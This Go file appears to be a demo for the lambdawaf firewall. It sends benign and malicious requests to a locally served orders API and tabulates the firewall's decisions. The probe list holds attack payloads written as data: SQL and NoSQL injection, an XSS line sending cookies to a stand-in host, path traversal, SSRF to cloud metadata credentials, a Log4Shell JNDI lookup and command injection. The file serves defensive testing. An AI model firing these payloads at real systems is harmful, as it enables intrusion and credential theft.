// Command demo shows lambdawaf protecting a function locally (make demo):
// it builds the sample orders API and the agent, serves them behind a
// local HTTP API endpoint (agent/gateway/local, the engine of `lambdawaf
// serve`), sends a handful of benign and malicious requests, and prints
// what happened to each: the HTTP status the client got and the decision
// and signals the agent recorded. It then leaves the endpoint running for
// curl, unless -once.
//
//	go run ./tests/demo            # table, then keep serving on 127.0.0.1:8080
//	go run ./tests/demo -once      # table, then exit (CI)
//	go run ./tests/demo -once -traffic 300 -report dist/demo/report.html
//	go run ./tests/demo -report-screenshot dist/report.png   # make report-screenshot
//
// The agent's decision records come from its stdout, captured through the
// emulator's log writer and matched to requests by Lambda request id.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/signal"
	"path/filepath"
	"strings"
	"sync"
	"text/tabwriter"
	"time"

	"github.com/lambdawaf/lambdawaf/agent/gateway"
	"github.com/lambdawaf/lambdawaf/agent/gateway/local"
	"github.com/lambdawaf/lambdawaf/agent/report"
	"github.com/lambdawaf/lambdawaf/agent/telemetry"
)

func main() {
	var o options
	flag.StringVar(&o.addr, "addr", gateway.DefaultAddr, "listen address of the local endpoint")
	flag.StringVar(&o.function, "function", "./tests/handlers/orders", "the function: Go package or binary")
	flag.StringVar(&o.agent, "agent", local.AgentPackage, "the agent: Go package or binary")
	flag.StringVar(&o.config, "config", "", "agent configuration document (LAMBDAWAF_CONFIG)")
	flag.StringVar(&o.mode, "mode", "block", "agent mode: block, log or off")
	flag.StringVar(&o.logPath, "log", "dist/demo/agent.log", "file for every log line of the agent and the function")
	flag.StringVar(&o.reportPath, "report", "", "write the HTML decisions report here after the run")
	flag.IntVar(&o.traffic, "traffic", 0, "after the table, send this many more requests of mixed traffic from several loopback sources (for the report)")
	flag.BoolVar(&o.once, "once", false, "exit after the table instead of serving on")
	flag.DurationVar(&o.recordWait, "record-wait", 2*time.Second, "how long to wait for a request's decision record")
	flag.StringVar(&o.screenshot, "report-screenshot", "", "run once with mixed traffic (300 requests unless -traffic), write the report next to this PNG and photograph it with headless Chromium")
	flag.Parse()
	if o.screenshot != "" {
		o.once = true
		if o.traffic == 0 {
			o.traffic = 300
		}
		if o.reportPath == "" {
			o.reportPath = strings.TrimSuffix(o.screenshot, filepath.Ext(o.screenshot)) + ".html"
		}
	}
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	if err := run(ctx, o, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "demo:", err)
		os.Exit(1)
	}
}

type options struct {
	addr, function, agent, config, mode, logPath, reportPath string
	screenshot                                               string
	traffic                                                  int
	once                                                     bool
	recordWait                                               time.Duration
}

// probe is one demo request.
type probe struct {
	label  string
	method string
	target string
	header http.Header
	body   string
}

var jsonHeader = http.Header{"Content-Type": {"application/json"}}

var probes = []probe{
	{label: "list orders", method: "GET", target: "/orders"},
	{label: "create an order", method: "POST", target: "/orders", header: jsonHeader, body: `{"customer":"alice","sku":"A-1","quantity":2}`},
	{label: "read it back", method: "GET", target: "/orders/ord-000001"},
	{label: "a name with a quote", method: "GET", target: "/orders?customer=O%27Brien"},
	{label: "SQL injection", method: "GET", target: "/orders?id=1%27%20OR%20%271%27%3D%271"},
	{label: "stored XSS", method: "POST", target: "/orders", header: jsonHeader, body: `{"customer":"<script>fetch('//x.example/'+document.cookie)</script>","sku":"A-1","quantity":1}`},
	{label: "path traversal", method: "GET", target: "/orders/..%2f..%2f..%2fetc%2fpasswd"},
	{label: "SSRF to metadata", method: "POST", target: "/orders", header: jsonHeader, body: `{"customer":"bob","sku":"A-1","quantity":1,"webhook":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}`},
	{label: "Log4Shell lookup", method: "GET", target: "/orders", header: http.Header{"User-Agent": {"${jndi:ldap://198.51.100.9:1389/a}"}}},
	{label: "command injection", method: "GET", target: "/orders?sku=A-1;cat%20/etc/passwd"},
	{label: "NoSQL operator", method: "POST", target: "/orders", header: jsonHeader, body: `{"customer":{"$ne":null},"sku":"A-1","quantity":1}`},
}

func run(ctx context.Context, o options, out io.Writer) error {
	work, err := os.MkdirTemp("", "lambdawaf-demo-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(work)
	cwd, _ := os.Getwd()
	fmt.Fprintln(out, "building the orders API and the agent …")
	handler, err := local.Binary(ctx, cwd, o.function, work, "bootstrap")
	if err != nil {
		return err
	}
	agent, err := local.Binary(ctx, cwd, o.agent, work, "lambdawaf")
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(o.logPath), 0o755); err != nil {
		return err
	}
	logFile, err := os.Create(o.logPath)
	if err != nil {
		return err
	}
	defer logFile.Close()
	records := newRecordSink(logFile)

	exchanges := make(chan gateway.Exchange, 64)
	ep, err := local.Start(ctx, local.Config{
		Addr:        o.addr,
		Translator:  gateway.Translator{Shape: gateway.HTTPAPI},
		Handler:     []string{handler},
		Agent:       agent,
		AgentConfig: o.config,
		Mode:        o.mode,
		Concurrency: 4,
		Logs:        records,
		Observe: func(x gateway.Exchange) {
			select {
			case exchanges <- x:
			default: // traffic mode: nobody reads them
			}
		},
		FunctionName: "orders-api",
	})
	if err != nil {
		return err
	}
	defer func() {
		cctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), 10*time.Second)
		defer cancel()
		ep.Close(cctx)
	}()
	wctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	err = ep.WarmUp(wctx, 1)
	cancel()
	if err != nil {
		return fmt.Errorf("the function failed to start: %w", err)
	}
	fmt.Fprintf(out, "orders API on %s, protected by the agent (mode %s)\n\n", ep.URL(), o.mode)

	tw := tabwriter.NewWriter(out, 2, 4, 2, ' ', 0)
	fmt.Fprintln(tw, "#\tREQUEST\tSTATUS\tDECISION\tSIGNALS")
	sawRecords := false
	for i, p := range probes {
		status, err := sendProbe(ctx, http.DefaultClient, ep.URL(), p)
		if err != nil {
			return fmt.Errorf("%s: %w", p.label, err)
		}
		// Drain exchanges to this probe's.
		var x gateway.Exchange
		select {
		case x = <-exchanges:
		case <-time.After(time.Second):
		}
		wait := o.recordWait
		if i > 0 && !sawRecords {
			wait = 0 // the agent writes none: do not wait for each request
		}
		decision, signals := "—", ""
		if rec, ok := records.wait(x.RequestID, wait); ok {
			sawRecords = true
			decision, signals = rec.Decision, summarizeSignals(rec.Signals)
		}
		fmt.Fprintf(tw, "%d\t%s\t%d\t%s\t%s\n", i+1, shorten(p.label+": "+p.method+" "+p.target, 64), status, decision, signals)
	}
	tw.Flush()
	if !sawRecords {
		fmt.Fprintf(out, "\nThe agent wrote no decision records (is the firewall wired into the extension's inspector?); see %s.\n", o.logPath)
	}

	if o.traffic > 0 {
		fmt.Fprintf(out, "\nsending %d requests of mixed traffic …\n", o.traffic)
		sent, failed := sendTraffic(ctx, ep.URL(), o.traffic)
		fmt.Fprintf(out, "sent %d (%d transport errors)\n", sent, failed)
		time.Sleep(500 * time.Millisecond) // let the last log lines through the pumps
	}
	if o.reportPath != "" {
		if err := writeReport(o.logPath, o.reportPath); err != nil {
			return err
		}
		fmt.Fprintf(out, "report: %s\n", o.reportPath)
	}
	if o.screenshot != "" {
		sctx, cancel := context.WithTimeout(ctx, 2*time.Minute)
		defer cancel()
		if err := report.Screenshot(sctx, "", o.reportPath, o.screenshot, "1280,2000"); err != nil {
			return err
		}
		fmt.Fprintf(out, "screenshot: %s\n", o.screenshot)
	}
	if o.once {
		return nil
	}
	fmt.Fprintf(out, "\nThe endpoint keeps running. Try:\n  curl -i '%s/orders?id=1%%27%%20OR%%201=1--'\n  curl -i -H 'content-type: application/json' -d '{\"sku\":\"B-2\",\"quantity\":1}' %s/orders\nAgent log: %s. Ctrl-C to stop.\n", ep.URL(), ep.URL(), o.logPath)
	<-ctx.Done()
	return nil
}

func sendProbe(ctx context.Context, c *http.Client, base string, p probe) (int, error) {
	req, err := http.NewRequestWithContext(ctx, p.method, base+p.target, strings.NewReader(p.body))
	if err != nil {
		return 0, err
	}
	for k, vs := range p.header {
		req.Header[k] = vs
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp.StatusCode, nil
}

// summarizeSignals names each signal class once, at the first location
// it was found.
func summarizeSignals(sigs []telemetry.Signal) string {
	seen := map[string]bool{}
	parts := make([]string, 0, len(sigs))
	for _, s := range sigs {
		if !seen[s.Class] {
			seen[s.Class] = true
			parts = append(parts, s.Class+"@"+s.Location)
		}
	}
	return shorten(strings.Join(parts, " "), 60)
}

func shorten(s string, n int) string {
	r := []rune(s)
	if len(r) <= n {
		return s
	}
	return string(r[:n-1]) + "…"
}

// sendTraffic sends n requests, mostly benign, from 24 loopback source
// addresses (Linux routes all of 127.0.0.0/8 to lo), four at a time.
func sendTraffic(ctx context.Context, base string, n int) (sent, failed int) {
	var mu sync.Mutex
	var wg sync.WaitGroup
	jobs := make(chan int)
	for w := range 4 {
		wg.Go(func() {
			rng := rand.New(rand.NewPCG(uint64(w), 42))
			clients := map[int]*http.Client{}
			for i := range jobs {
				src := 2 + rng.IntN(24)
				if i%7 == 0 {
					src = 66 // one noisy source
				}
				c := clients[src]
				if c == nil {
					d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, byte(src))}}
					c = &http.Client{Transport: &http.Transport{DialContext: d.DialContext}}
					clients[src] = c
				}
				p := probes[rng.IntN(4)] // benign
				if rng.IntN(5) == 0 || src == 66 {
					p = probes[4+rng.IntN(len(probes)-4)]
				}
				_, err := sendProbe(ctx, c, base, p)
				mu.Lock()
				sent++
				if err != nil {
					failed++
				}
				mu.Unlock()
			}
		})
	}
	for i := range n {
		if ctx.Err() != nil {
			break
		}
		jobs <- i
	}
	close(jobs)
	wg.Wait()
	return sent, failed
}

func writeReport(logPath, htmlPath string) error {
	in, err := os.Open(logPath)
	if err != nil {
		return err
	}
	defer in.Close()
	if err := os.MkdirAll(filepath.Dir(htmlPath), 0o755); err != nil {
		return err
	}
	var buf bytes.Buffer
	if _, err := report.Generate(&buf, in, report.Options{Title: "lambdawaf demo: orders API", Source: filepath.Base(logPath)}); err != nil {
		return err
	}
	return os.WriteFile(htmlPath, buf.Bytes(), 0o644)
}

// recordSink receives the environments' log lines: it appends them to the
// log file and keeps the decision records by Lambda request id.
type recordSink struct {
	mu      sync.Mutex
	file    io.Writer
	partial []byte
	byID    map[string]telemetry.Record
	arrived chan struct{} // closed and replaced on every record
}

func newRecordSink(file io.Writer) *recordSink {
	return &recordSink{file: file, byID: map[string]telemetry.Record{}, arrived: make(chan struct{})}
}

func (s *recordSink) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, err := s.file.Write(p); err != nil {
		return 0, err
	}
	s.partial = append(s.partial, p...)
	for {
		i := bytes.IndexByte(s.partial, '\n')
		if i < 0 {
			break
		}
		line := s.partial[:i]
		if j := bytes.IndexByte(line, '{'); j >= 0 {
			var rec telemetry.Record
			if json.Unmarshal(line[j:], &rec) == nil && rec.Kind == telemetry.KindDecision && rec.RequestID != "" {
				s.byID[rec.RequestID] = rec
				close(s.arrived)
				s.arrived = make(chan struct{})
			}
		}
		s.partial = s.partial[i+1:]
	}
	return len(p), nil
}

// wait returns the decision record of a request, waiting up to d for it.
func (s *recordSink) wait(id string, d time.Duration) (telemetry.Record, bool) {
	if id == "" {
		return telemetry.Record{}, false
	}
	deadline := time.After(d)
	for {
		s.mu.Lock()
		rec, ok := s.byID[id]
		arrived := s.arrived
		s.mu.Unlock()
		if ok {
			return rec, true
		}
		select {
		case <-arrived:
		case <-deadline:
			return telemetry.Record{}, false
		}
	}
}
